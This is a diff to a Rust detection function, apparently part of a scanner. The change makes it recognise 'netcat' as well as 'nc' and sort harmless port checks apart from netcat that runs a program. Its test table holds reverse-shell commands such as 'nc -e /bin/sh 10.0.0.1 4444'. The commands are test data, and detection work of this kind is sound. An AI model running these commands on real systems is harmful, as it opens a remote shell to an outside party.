@@ -349,7 +349,8 @@ fn slack_token(secret: &[u8]) -> Verdict {
 /// Netcat that only asks whether a port is open (`-z`) carries nothing, unless it runs something, too.
 fn port_check(matched: &[u8]) -> Verdict {
     let mut words = matched.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
-    let is_netcat = words.next().is_some_and(|word| word.to_ascii_lowercase().starts_with(b"nc"));
+    let command = words.next().unwrap_or_default().to_ascii_lowercase();
+    let is_netcat = command.starts_with(b"nc") || command.starts_with(b"netcat");
     let is_short = |word: &&[u8]| word.starts_with(b"-") && !word.starts_with(b"--");
     let options: Vec<u8> = words.filter(is_short).flatten().copied().collect();
     let runs = [b'e', b'c'].iter().any(|option| options.contains(option));
@@ -525,6 +526,7 @@ mod tests {
         for (command, verdict) in [
             ("nc -zv localhost 5432", Verdict::Fails),
             ("nc -w 3 -z db 5432", Verdict::Fails),
+            ("netcat -z db 5432", Verdict::Fails),
             ("nc -zv -e /bin/sh 10.0.0.1 4444", Verdict::Silent),
             ("nc -e /bin/zsh 10.0.0.1 4444", Verdict::Silent),
             ("nc 10.0.0.1 4444", Verdict::Silent),
